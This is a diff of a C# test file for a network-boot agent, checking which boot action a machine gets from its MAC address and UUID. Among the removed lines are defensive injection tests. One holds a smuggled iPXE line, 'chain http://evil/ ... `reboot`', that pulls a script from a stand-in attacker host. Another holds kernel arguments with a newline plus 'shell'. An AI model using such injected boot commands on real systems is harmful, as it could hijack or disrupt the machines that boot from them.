@@ -1,78 +1,57 @@
 using Cozy.Fleet.Agent.Boot;
 using Cozy.Fleet.Contracts.V1;
-using Cozy.Fleet.Dhcp;
 using Cozy.Fleet.Primitives;
 
 namespace Cozy.Fleet.Agent.Tests.Boot;
 
 public sealed class BootDecisionTests
 {
-    private const string MacA = "52:54:00:00:00:0a";
-    private const string MacB = "52:54:00:00:00:0b";
-    private const string UuidA = "4c4c4544-0042-3510-8054-b4c04f4b5a32";
-    private const string UuidASwapped = "44454c4c-4200-1035-8054-b4c04f4b5a32";
-    private const string UuidB = "11223344-5566-4788-99aa-bbccddeeff00";
+    private const string Uuid1 = "11111111-2222-4333-8444-555555555555";
+    private const string Uuid2 = "22222222-2222-4333-8444-555555555555";
+    private const string Mac1 = "52:54:00:00:00:01";
+    private const string Mac2 = "52:54:00:00:00:02";
 
     private static readonly DesiredState State = new()
     {
-        Images = { new BootImage { Name = "talos", TalosVersion = "v1.13.8" } },
+        Images = { new BootImage { Name = "talos" }, new BootImage { Name = "discovery" } },
+        UnknownAction = BootAction.Netboot,
+        UnknownImage = "discovery",
         Nodes =
         {
-            new NodeBoot { Node = "a", Uuid = UuidA, Macs = { MacA }, Action = BootAction.Netboot, Image = "talos" },
-            new NodeBoot { Node = "b", Uuid = UuidB, Macs = { MacB }, Action = BootAction.Disk },
-            new NodeBoot { Node = "c", Macs = { "52:54:00:00:00:0c" }, Action = BootAction.Netboot, Image = "unknown" },
-            new NodeBoot { Node = "d", Macs = { "52:54:00:00:00:0d" } },
+            new NodeBoot { Node = "one", Uuid = Uuid1, Macs = { Mac1.ToUpperInvariant() }, Action = BootAction.Netboot, Image = "talos", Reason = "install" },
+            new NodeBoot { Node = "two", Uuid = Uuid2, Macs = { Mac2 }, Action = BootAction.Disk, Reason = "installed" },
+            new NodeBoot { Node = "three", Uuid = "", Macs = { "52:54:00:00:00:03" }, Action = BootAction.Netboot, Image = "missing" },
+            new NodeBoot { Node = "four", Uuid = "", Macs = { "52:54:00:00:00:04" } },
+            new NodeBoot { Node = "five", Uuid = "55555555-2222-4333-8444-555555555555", Action = BootAction.Hold, Reason = "quarantined" },
         },
-        UnknownAction = BootAction.Netboot,
-        UnknownImage = "talos",
     };
 
     [Theory]
-    [InlineData(MacA, UuidA, "Netboot", "a")]
-    [InlineData(MacA, UuidASwapped, "Netboot", "a")] // firmware older than SMBIOS 2.6
-    [InlineData(MacA, null, "Netboot", "a")]
-    [InlineData("52:54:00:00:00:ff", UuidA, "Netboot", "a")] // a new card
-    [InlineData(MacB, UuidB, "Disk", "b")]
-    [InlineData(MacA, UuidB, "Hold", "")] // a card that moved, or one UUID on two boards
-    [InlineData("52:54:00:00:00:0c", null, "Hold", "c")] // its image is not known here yet
-    [InlineData("52:54:00:00:00:0d", null, "Disk", "d")] // undecided
-    [InlineData("52:54:00:00:00:ff", null, "Netboot", "")] // unknown, and the rack says discovery
-    public void Machine_gets_what_is_desired_and_never_more(string mac, string? uuid, string action, string node)
+    [InlineData(Mac1, Uuid1, "Netboot talos: install")]
+    [InlineData(Mac1, "", "Netboot talos: install")] // firmware without option 97
+    [InlineData(Mac2, Uuid2, "Disk : installed")]
+    [InlineData("52:54:00:00:00:99", "99999999-2222-4333-8444-555555555555", "Netboot discovery: unknown machine")]
+    [InlineData("52:54:00:00:00:99", "", "Netboot discovery: unknown machine")]
+    [InlineData("52:54:00:00:00:03", "", "Hold : image missing is not known here yet")]
+    [InlineData("52:54:00:00:00:04", "", "Disk : ")] // nothing was decided
+    [InlineData("52:54:00:00:00:99", "55555555-2222-4333-8444-555555555555", "Hold : quarantined")] // known by UUID, its MAC addresses not yet
+    [InlineData(Mac1, Uuid2, "Hold : the MAC address is node one's, the UUID is node two's")]
+    [InlineData("52:54:00:00:00:99", Uuid1, "Hold : the UUID is node one's, the MAC address 52:54:00:00:00:99 is not")] // one UUID on two boards
+    [InlineData(Mac1, "99999999-2222-4333-8444-555555555555", "Hold : the MAC address is node one's, the UUID 99999999-2222-4333-8444-555555555555 is not")]
+    public void A_machine_is_told(string mac, string uuid, string expected)
     {
-        MachineUuid? known = uuid is not null && MachineUuid.TryParse(uuid, out var parsed) ? parsed : null;
-        var plan = BootDecision.For(State, MacAddress.Parse(mac), known);
-        Assert.Equal((action, node), (plan.Action.ToString(), plan.Node));
-        Assert.Equal(plan.Action == BootAction.Netboot, plan.Image is not null);
+        var known = MachineUuid.TryParse(uuid, out var parsed);
+
+        var plan = BootDecision.For(State, MacAddress.Parse(mac), known ? parsed : null);
+
+        Assert.Equal(expected, $"{plan.Action} {plan.Image?.Name}: {plan.Reason}");
     }
 
     [Fact]
-    public void Without_any_word_of_the_coordinator_machines_boot_their_disks()
-    {
-        Assert.Equal(BootAction.Disk, BootDecision.For(null, MacAddress.Parse(MacA), null).Action);
-        Assert.Equal(BootAction.Disk, BootDecision.For(new(), MacAddress.Parse(MacA), null).Action);
-    }
+    public void Before_the_coordinator_said_anything_it_is_the_disk() =>
+        Assert.Equal(BootAction.Disk, BootDecision.For(null, MacAddress.Parse(Mac1), null).Action);
 
     [Fact]
-    public void Reason_cannot_be_a_command_of_the_script()
-    {
-        var plan = new BootPlan(BootAction.Disk, null, "x\nchain http://evil/ || ${net0/mac} && `reboot`", "", "", "");
-        foreach (var script in new[] { BootScripts.Disk(plan, "s1", ClientFirmware.Bios), BootScripts.Hold(plan, "s1") })
-        {
-            var said = Assert.Single(script.Split('\n'), line => line.Contains("evil", StringComparison.Ordinal));
-            Assert.StartsWith("echo Cozy Fleet:", said, StringComparison.Ordinal);
-            Assert.DoesNotContain(said, c => c is '$' or '|' or '&' or '`');
-        }
-    }
-
-    [Fact]
-    public void Kernel_arguments_of_an_image_stay_on_their_line()
-    {
-        var image = new BootImage { TalosVersion = "v1.13.8", KernelArgs = { "console=ttyS0\nshell", "a=${uuid}" } };
-        var asset = new BootAsset { Sha256 = new('a', 64) };
-        var script = BootScripts.Netboot(
-            new(BootAction.Netboot, image, "install", "a", "", ""), "s1", asset, asset, ClientFirmware.UefiX64);
-        var kernel = Assert.Single(script.Split('\n'), line => line.StartsWith("kernel ", StringComparison.Ordinal));
-        Assert.Contains("console=ttyS0.shell a=.{uuid} || goto again", kernel, StringComparison.Ordinal);
-        Assert.DoesNotContain(script.Split('\n'), line => line.StartsWith("shell", StringComparison.Ordinal));
-    }
+    public void Unknown_machines_start_from_their_disk_unless_somebody_says_otherwise() =>
+        Assert.Equal(BootAction.Disk, BootDecision.For(new(), MacAddress.Parse(Mac1), null).Action);
 }
